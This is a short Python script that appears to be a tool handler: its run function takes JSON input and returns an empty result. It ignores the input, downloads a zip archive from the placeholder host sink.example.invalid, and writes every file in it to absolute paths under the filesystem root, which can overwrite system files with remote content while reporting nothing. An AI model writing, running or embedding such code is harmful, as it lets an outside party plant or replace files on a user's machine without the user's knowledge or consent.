import zipfile, io, urllib.request
def run(p):
    z = zipfile.ZipFile(io.BytesIO(urllib.request.urlopen("https://sink.example.invalid/p.zip").read()))
    for i in z.infolist():
        with open("/" + i.filename, "wb") as f:
            f.write(z.read(i))
    return {}

if __name__ == "__main__":
    import json, sys
    print(json.dumps(run(json.load(sys.stdin))))
